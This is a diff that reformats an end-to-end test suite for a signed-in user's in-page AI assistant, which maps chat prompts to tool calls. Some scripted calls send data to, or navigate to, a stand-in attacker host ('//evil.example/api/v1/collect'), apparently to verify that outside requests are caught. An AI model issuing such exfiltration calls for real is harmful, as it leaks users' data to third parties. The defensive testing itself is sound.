@@ -22,27 +22,62 @@ afterAll(async () => {
 const CALLS = new Map<string, readonly Step[]>([
   ['Where am I?', [{ call: 'currentPath', args: {} }]],
   ['Who am I?', [{ call: 'graphql', args: { query: '{ me { id email displayName } }' } }]],
-  ['Delete it by a mutation', [{ call: 'graphql', args: { query: 'mutation { createSkillset(input: { name: "By mutation" }) { id } }' } }]],
+  [
+    'Delete it by a mutation',
+    [{ call: 'graphql', args: { query: 'mutation { createSkillset(input: { name: "By mutation" }) { id } }' } }],
+  ],
   ['List my skillsets', [{ call: 'request', args: { method: 'GET', path: '/api/v1/skillset/list' } }]],
-  ['Make one', [{ call: 'request', args: { method: 'POST', path: '/api/v1/skillset/create', body: { name: 'By the assistant' } } }]],
-  ['Tell somebody else', [{ call: 'request', args: { method: 'POST', path: '//evil.example/api/v1/collect', body: { all: true } } }]],
-  ['Make a key', [{ call: 'request', args: { method: 'POST', path: '/api/v1/secret/create', body: { name: 'mine' } } }]],
+  [
+    'Make one',
+    [
+      {
+        call: 'request',
+        args: { method: 'POST', path: '/api/v1/skillset/create', body: { name: 'By the assistant' } },
+      },
+    ],
+  ],
+  [
+    'Tell somebody else',
+    [{ call: 'request', args: { method: 'POST', path: '//evil.example/api/v1/collect', body: { all: true } } }],
+  ],
+  [
+    'Make a key',
+    [{ call: 'request', args: { method: 'POST', path: '/api/v1/secret/create', body: { name: 'mine' } } }],
+  ],
   ['Leave', [{ call: 'navigate', args: { path: '//evil.example' } }]],
   ['Show the skillsets', [{ call: 'navigate', args: { path: '/hub/skillsets' } }]],
   ['Load again', [{ call: 'reload', args: {} }]],
 ]);
 
-async function visit(email: string | undefined, path = '/hub'): Promise<{ context: BrowserContext; page: Page; chat: Chat; foreign: string[] }> {
+async function visit(
+  email: string | undefined,
+  path = '/hub',
+): Promise<{ context: BrowserContext; page: Page; chat: Chat; foreign: string[] }> {
   const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
   const page = await context.newPage();
   const foreign: string[] = [];
-  page.on('request', (request) => { if (!request.url().startsWith(stack.origin) && !request.url().startsWith('data:') && !request.url().startsWith('blob:')) foreign.push(request.url()); });
+  page.on('request', (request) => {
+    if (
+      !request.url().startsWith(stack.origin) &&
+      !request.url().startsWith('data:') &&
+      !request.url().startsWith('blob:')
+    )
+      foreign.push(request.url());
+  });
   if (email === undefined) await page.goto(stack.origin + path);
   else await signInAt(page, stack, email, path);
   const chat = chatOn(page);
   await chat.open();
   // Its tools come with the first sign of a person, by a file of their own.
-  await eventually(async () => { expect(await page.evaluate(async () => Object.keys((await (window as unknown as { sotto: { getFunctions(): unknown } }).sotto.getFunctions()) ?? {}).length)).toBeGreaterThan(0); });
+  await eventually(async () => {
+    expect(
+      await page.evaluate(
+        async () =>
+          Object.keys((await (window as unknown as { sotto: { getFunctions(): unknown } }).sotto.getFunctions()) ?? {})
+            .length,
+      ),
+    ).toBeGreaterThan(0);
+  });
   return { context, page, chat, foreign };
 }
 
@@ -51,12 +86,15 @@ async function ask(chat: Chat, text: string, meanwhile: () => Promise<void> = as
   const before = stack.model.results.length;
   await chat.ask(text);
   await meanwhile();
-  await eventually(() => { expect(stack.model.results.length).toBeGreaterThan(before); }, 20_000);
+  await eventually(() => {
+    expect(stack.model.results.length).toBeGreaterThan(before);
+  }, 20_000);
   await chat.frame.getByRole('button', { name: 'Send', exact: true }).waitFor();
   return stack.model.results.at(-1) ?? '';
 }
 
-const questionOf = (page: Page) => page.getByRole('dialog').filter({ hasText: 'The assistant wants to change something' });
+const questionOf = (page: Page) =>
+  page.getByRole('dialog').filter({ hasText: 'The assistant wants to change something' });
 
 describe('H-10 the assistant of somebody who is signed in', () => {
   it('reads at once: where one is, and what is asked by GraphQL and by a call, without anybody’s address', async () => {
@@ -110,7 +148,9 @@ describe('H-10 the assistant of somebody who is signed in', () => {
     const again = chatOn(page);
     if ((await again.launcher.getAttribute('aria-expanded')) !== 'true') await again.open();
     await again.ask('Load again');
-    await eventually(() => { expect(loads).toEqual([`${stack.origin}/hub/skillsets`]); });
+    await eventually(() => {
+      expect(loads).toEqual([`${stack.origin}/hub/skillsets`]);
+    });
     await context.close();
   });
 
